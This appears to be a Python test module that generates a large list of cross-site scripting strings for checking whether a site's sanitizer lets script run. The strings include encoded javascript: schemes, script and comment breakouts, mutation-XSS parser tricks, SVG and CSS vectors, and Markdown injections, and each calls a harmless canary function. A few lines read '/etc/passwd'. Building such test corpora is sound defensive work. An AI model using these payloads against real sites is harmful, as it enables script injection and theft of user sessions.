"""Text that would run a script where it came onto a page as more than text.

Written out by family: what opens an element, what an element does by itself, what an address does, what breaks out of
an attribute, a script, a comment or a style, and what changes its meaning when it is parsed a second time. Each calls
``hit``, which nothing on the site defines: whoever looks defines it, and learns that it ran.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

HIT = "hit(1)"
_ENTITIES = "".join(f"&#{ord(letter)};" for letter in f"javascript:{HIT}")
_HEXADECIMAL = "".join(f"&#x{ord(letter):x}" for letter in f"javascript:{HIT}")

SCHEMES = (
    f"javascript:{HIT}",
    f"JaVaScRiPt:{HIT}",
    f" javascript:{HIT}",
    f"java\tscript:{HIT}",
    f"java&Tab;script:{HIT}",
    f"java&NewLine;script:{HIT}",
    f"javascript&colon;{HIT}",
    f"javascript&#58;{HIT}",
    f"javascript&#x3A;{HIT}",
    f"&#1;javascript:{HIT}",
    f"&#106;avascript:{HIT}",
    f"\\x6aavascript:{HIT}",
    f"javascript://example.org/%0a{HIT}",
    f"javascript:/*--></title></style></textarea></script><svg/onload='{HIT}'>*/",
    f"data:text/html,<script>parent.{HIT}</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0KDEpPC9zY3JpcHQ+",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{HIT}'/>",
    f"vbscript:{HIT}",
    f"livescript:{HIT}",
    f"view-source:javascript:{HIT}",
    f"feed:javascript:{HIT}",
    f"jar:javascript:{HIT}",
    "file:///etc/passwd",
    "blob:null/hit",
    _ENTITIES,
    _HEXADECIMAL,
)
"""Addresses that are no addresses of anything."""

_ACTING = (
    ("img src=x", "onerror"),
    ("img src=x:x", "onerror"),
    ("image src=x", "onerror"),
    ("svg", "onload"),
    ("body", "onload"),
    ("body", "onpageshow"),
    ("frameset", "onload"),
    ("iframe", "onload"),
    ("embed src=x", "onload"),
    ("object data=x", "onerror"),
    ("video src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("video><source", "onerror"),
    ("input autofocus", "onfocus"),
    ("input type=image src=x", "onerror"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("button autofocus", "onfocus"),
    ("keygen autofocus", "onfocus"),
    ("a autofocus tabindex=1 href=#", "onfocus"),
    ("details open", "ontoggle"),
    ("marquee", "onstart"),
    ("style", "onload"),
    ("link rel=stylesheet href=x", "onerror"),
    ("script src=x", "onerror"),
    ("div style=animation:a", "onanimationstart"),
    ("p contenteditable autofocus", "onfocus"),
    ("x tabindex=1 autofocus", "onfocus"),
    ("p", "onpointerenter"),
    ("p", "onclick"),
    ("math", "onmouseover"),
    ("table background=x", "onload"),
)

_ADDRESSED = (
    '<a href="{}">a</a>',
    "<iframe src='{}'></iframe>",
    '<object data="{}"></object>',
    '<form action="{}"><button autofocus>b</button></form>',
    '<svg><a xlink:href="{}"><text y=9>a</text></a></svg>',
    '<meta http-equiv=refresh content="0;url={}">',
)

_SCRIPTS = (
    f"<script>{HIT}</script>",
    f"<SCRIPT>{HIT}</SCRIPT>",
    f"<script\t>{HIT}</script\t>",
    f"<script/x>{HIT}</script>",
    f"<script >{HIT}</script >",
    f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    f"<<script>{HIT}//<</script>",
    f"</script><script>{HIT}</script>",
    f"</title><script>{HIT}</script>",
    f"</textarea><script>{HIT}</script>",
    f"</style><script>{HIT}</script>",
    f"</noscript><script>{HIT}</script>",
    f"</template><script>{HIT}</script>",
    f"]]><script>{HIT}</script>",
    f"--><script>{HIT}</script>",
    f"--!><script>{HIT}</script>",
    f"<!--><script>{HIT}</script>",
    f"<!---><script>{HIT}</script>",
    f"<!-- --!><script>{HIT}</script>",
    f"<![CDATA[><script>{HIT}</script>]]>",
    f"<?xml ?><script>{HIT}</script>",
    f"<!x><script>{HIT}</script>",
    f"<script src=data:,{HIT}></script>",
    f"<script type=module>{HIT}</script>",
    f"<script>{HIT}",
    f"<script src=//127.0.0.1/x.js onerror={HIT}",
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><script href=data:,{HIT} /></svg>",
    f"<math><script>{HIT}</script></math>",
    f"<object><script>{HIT}</script></object>",
    f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>",
    f"<iframe srcdoc='&lt;script&gt;parent.{HIT}&lt;/script&gt;'></iframe>",
    f"<base href=//127.0.0.1/><script>{HIT}</script>",
    f"<template shadowrootmode=open><script>{HIT}</script></template>",
    f"<plaintext><script>{HIT}</script>",
    f"<isindex type=image src=x onerror={HIT}>",
    f"<link rel=import href=data:text/html,<script>{HIT}</script>>",
    f"<link rel=modulepreload href=x onerror={HIT}>",
    f"<frameset><frame src=javascript:{HIT}></frameset>",
    f"<portal src=javascript:{HIT}></portal>",
    f"＜script＞{HIT}＜/script＞",
    f"%3Cscript%3E{HIT}%3C/script%3E",
    f"&lt;script&gt;{HIT}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{HIT}",
    f"+ADw-script+AD4-{HIT}+ADw-/script+AD4-",
    f"\\u003cscript\\u003e{HIT}\\u003c/script\\u003e",
    f"&#x3c;img src=x onerror={HIT}&#x3e;",
    f"<script\x0c>{HIT}</script>",
)

# Each reads one way the first time and another way the second: once as text of an element that is none in HTML.
_TWICE = (
    f'<noscript><p title="</noscript><img src=x onerror={HIT}>">',
    f'<textarea><p title="</textarea><img src=x onerror={HIT}>">',
    f'<title><p title="</title><img src=x onerror={HIT}>">',
    f'<xmp><p title="</xmp><img src=x onerror={HIT}>">',
    f'<noembed><p title="</noembed><img src=x onerror={HIT}>">',
    f'<noframes><p title="</noframes><img src=x onerror={HIT}>">',
    f'<iframe><p title="</iframe><img src=x onerror={HIT}>">',
    f'<style><p title="</style><img src=x onerror={HIT}>">',
    f'<svg></p><style><a id="</style><img src=x onerror={HIT}>">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={HIT}&gt;">',
    f'<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x onerror={HIT}>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={HIT}>",
    f'<svg><title><p title="</title></svg><img src=x onerror={HIT}>">',
    f"<svg><desc><style></desc></svg><img src=x onerror={HIT}></style>",
    f"<svg><foreignobject><p><style></svg><img src=x onerror={HIT}></style>",
    f"<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror={HIT}>'>",
    f"<table><td><style></table><img src=x onerror={HIT}></style>",
    f'<a title="<!--"><img src=x onerror={HIT}>--></a>',
    f'<img alt="`><img src=x onerror={HIT}>`">',
    f"<listing>&lt;img src=x onerror={HIT}&gt;</listing>",
    f"<b><p><svg><p></b><style><img src=x onerror={HIT}></style>",
    f"<details><summary><style></details><img src=x onerror={HIT}></summary>",
)

_DRAWN = (
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<svg><set onbegin={HIT} attributeName=x>",
    f"<svg><animate attributeName=href values=javascript:{HIT} /><a id=x><text y=9>a</text></a></svg>",
    f"<svg><a><animate attributeName=href to=javascript:{HIT} begin=0s /><text y=9>a</text></a></svg>",
    f"<svg><image href=x onerror={HIT}></svg>",
    (
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
        f"<image href='x' onerror='{HIT}'/></svg>#x\">"
    ),
    f"<svg><foreignObject><iframe onload={HIT}></iframe></foreignObject></svg>",
    f"<svg><discard onbegin={HIT}></svg>",
    f"<svg><style>@import 'data:,*{{x:expression({HIT})}}'</style></svg>",
    f"<svg xmlns:xlink=http://www.w3.org/1999/xlink><a xlink:href=javascript:{HIT}><rect width=9 height=9 /></a></svg>",
    f"<math href=javascript:{HIT}>a</math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{HIT}>a</maction></math>",
    f"<style>@keyframes a{{}}</style><p style=animation:a onanimationend={HIT}>",
    f'<p style="background:url(javascript:{HIT})">a</p>',
    f'<p style="width:expression({HIT})">a</p>',
    f'<p style="-moz-binding:url(data:text/xml,{HIT})">a</p>',
    f"<style>@import 'javascript:{HIT}';</style>",
    f"<link rel=stylesheet href=javascript:{HIT}>",
)

_BREAKING = (
    f'" onfocus={HIT} autofocus tabindex=1 x="',
    f"' onfocus={HIT} autofocus tabindex=1 x='",
    f"` onfocus={HIT} autofocus x=`",
    f'"><img src=x onerror={HIT}>',
    f"'><img src=x onerror={HIT}>",
    f"`><img src=x onerror={HIT}>",
    f'"/><svg/onload={HIT}>',
    f'">"><svg onload={HIT}//',
    f'\\"><img src=x onerror={HIT}>',
    f"&quot;><img src=x onerror={HIT}>",
    f"&quot; onfocus={HIT} autofocus x=&quot;",
    f'" style="animation:a" onanimationstart="{HIT}',
    f'"-{HIT}-"',
    f"'-{HIT}-'",
    f"\\'-{HIT}//",
    f"';{HIT};//",
    f'";{HIT};//',
    f"${{{HIT}}}",
    f"`${{{HIT}}}`",
    f"\\u0022;{HIT};//",
    f"\u2028{HIT}",
    f"</script><svg onload={HIT}>",
    f"<!--<script>{HIT}",
    f"*/{HIT}/*",
    f"}}</style><img src=x onerror={HIT}>",
    f"]]><svg xmlns='http://www.w3.org/1999/xhtml' onload='{HIT}'/>",
    f"{{{{ constructor.constructor('{HIT}')() }}}}",
    f"{{% raw %}}<img src=x onerror={HIT}>{{% endraw %}}",
    f"<!-- view: agenda-index --><img src=x onerror={HIT}>",
    f"<% {HIT} %>",
)

_MARKDOWN = (
    f"[a](https://example.org/%22onfocus={HIT}%20autofocus=%22)",
    f'[a](https://example.org/"onfocus={HIT} "autofocus)',
    f"[a](https://example.org 'x\" onfocus={HIT} autofocus x=\"')",
    f'![x" onerror="{HIT}](x)',
    f'![a](x "x\' onerror={HIT}")',
    f"![a](x){{: onerror={HIT} }}",
    f"[a](https://example.org){{: onfocus={HIT} autofocus }}",
    f"# a {{: onclick={HIT} }}",
    f"*a*{{onclick={HIT}}}",
    f'<https://example.org/"onfocus={HIT}>',
    f"https://example.org/?x=<img/src=x/onerror={HIT}>",
    f"www.example.org/'onfocus={HIT}",
    f"`<img src=x onerror={HIT}>`",
    f'``` x" onload={HIT}',
    f"~~~ {{.x onload={HIT}}}",
    f'[^x"onload={HIT}]',
    f"| <img src=x onerror={HIT}> | a |",
    f"\\<img src=x onerror={HIT}>",
    f"<a href='x'\n onfocus={HIT} autofocus>",
    f"<img src=x\nonerror\n=\n{HIT}>",
    f"<img/src='x'/onerror='{HIT}'>",
    f"<img src=x onerror&#61;{HIT}>",
    f"<img src=x oneonerrorrror={HIT}>",
    '<img src=x onerror="&#104;it(1)">',
    "<img src=x onerror=hit&lpar;1&rpar;>",
    "<img src=x onerror=hit`1`>",
    f"<img \x01src=x onerror={HIT}>",
    f"<\x01img src=x onerror={HIT}>",
    f"<p id=__config>{{}}</p><a id=__config name=x href=javascript:{HIT}>",
    f"<form id=head><input name=append></form><img name=getElementById src=x onerror={HIT}>",
    f"--8<-- '/etc/passwd' <img src=x onerror={HIT}>",
    f"!!! note '<img src=x onerror={HIT}>'",
)


def vectors() -> list[str]:
    """Every such text, once."""
    return list(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    for (element, event), way in product(_ACTING, ("<{} {}={}>", '<{}/{}="{}">', "<{}\n{}\n=\n{} ")):
        yield way.format(element, event, HIT)
    for scheme in SCHEMES:
        yield scheme
        yield f"[a]({scheme})"
        yield f"![a](<{scheme}>)"
        yield f"<{scheme}>"
    for scheme, element in product(SCHEMES[:8], _ADDRESSED):
        yield element.format(scheme)
    for family in (_SCRIPTS, _TWICE, _DRAWN, _BREAKING, _MARKDOWN):
        yield from family
